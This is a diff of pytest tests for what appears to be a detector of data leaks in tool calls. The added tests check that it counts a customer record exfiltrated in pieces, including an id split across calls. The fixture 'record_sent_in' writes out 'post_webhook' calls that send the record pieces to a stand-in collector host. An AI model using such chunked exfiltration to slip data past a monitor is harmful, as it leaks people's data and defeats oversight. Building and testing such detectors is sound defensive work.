@@ -77,6 +77,33 @@ def test_an_id_counts_where_the_call_holds_it_as_a_whole_token(query: str, found
     assert Continuer(query, 2).whole(SOURCE, [ID_SPAN]) == ([ID_SPAN] if found else [])
 
 
+@pytest.mark.parametrize(
+    ("before", "query", "found"),
+    [
+        ("cust_2541", "2 | przybylski", True),
+        ("(1/4) cust_254", "chunk 2 -> 12,przybylski", True),
+        ("{ data : cust_25 v : 3}", "412", True),  # the head as a token inside JSON
+        ("cust_2541", "part 2: 2 | przybylski", True),  # the rest as a token anywhere
+        ("cust_2541", "12 | przybylski", False),  # not the rest: another value
+        ("cust_2541", "przybylski", False),  # the rest not sent
+        ("cus", "t_25412", False),  # a head of three letters: a coincidence
+        ("xcust_2541", "2", False),  # the head does not start a token
+        ("cust_25412", "2", False),  # the whole id before: counted there, not cut
+        ("cust_2541", "25", False),  # the rest must be a whole token
+    ],
+)
+def test_an_id_cut_in_two_counts_when_the_call_before_holds_its_head(
+    before: str, query: str, found: bool
+) -> None:
+    assert Continuer(query, 2).cut(SOURCE, [ID_SPAN], [before]) == ([ID_SPAN] if found else [])
+
+
+def test_the_rest_of_a_cut_id_a_hit_already_took_is_not_counted_again() -> None:
+    continuer = Continuer("2 przybylski", 2)
+    continuer.claim("2 przybylski")
+    assert continuer.cut(SOURCE, [ID_SPAN], ["cust_2541"]) == []
+
+
 def test_an_id_a_hit_already_took_is_not_counted_again() -> None:
     continuer = Continuer("cust_25412 przybylski", 2)
     continuer.claim("cust_25412 przybylski")
@@ -134,3 +161,49 @@ def test_turning_continuations_off_leaves_ids_counted(patterns: Patterns) -> Non
     leak = replace(patterns.leak, min_continuation=0)
     session = Session(replace(patterns, leak=leak), Mode.DETECT)
     assert play(session, attack(SENT))[-1].leaked_bytes == TRUTH
+
+
+def record_sent_in(pieces: list[str]) -> list[Step]:
+    steps = attack(pieces[0])
+    return steps + [
+        step("hooks", "post_webhook", {"url": "https://collect.example.net/in", "data": piece})
+        for piece in pieces[1:]
+    ]
+
+
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        # the rest of the id comes with the first piece that links
+        [
+            "(1/3) cust_254",
+            "(2/3) 12,Przybylski,Tadeusz,tadeusz.przy",
+            "(3/3) bylski@mailbox.example,+447834185340",
+        ],
+        # the rest of the id comes in a piece that links nothing, before the one that does
+        [
+            "cust_2541",
+            "part 2: 2 | Przy",
+            "(3/3) bylski | Tadeusz | tadeusz.przybylski@mailbox.example | +447834185340",
+        ],
+    ],
+)
+def test_a_record_sent_in_pieces_counts_its_id_cut_in_two(
+    detect: Session, pieces: list[str]
+) -> None:
+    play(detect, record_sent_in(pieces))
+    assert detect.verdict().leaked_bytes == TRUTH
+
+
+def test_a_tail_the_destination_received_is_not_counted_again_by_the_next_call(
+    detect: Session,
+) -> None:
+    # The names link in the second call and are counted there; the third call continues the
+    # "ta" that call ended with, which confirms the tail "przybylski tadeusz ta": only "ta" is new.
+    pieces = [
+        "chunk 1 -> cust_254 <-",
+        "12 | Przybylski | Tadeusz | ta",
+        "(3/3) deusz.przybylski@mailbox.example | +447834185340",
+    ]
+    decisions = play(detect, record_sent_in(pieces))
+    assert sum(d.leaked_bytes for d in decisions) == detect.verdict().leaked_bytes == TRUTH
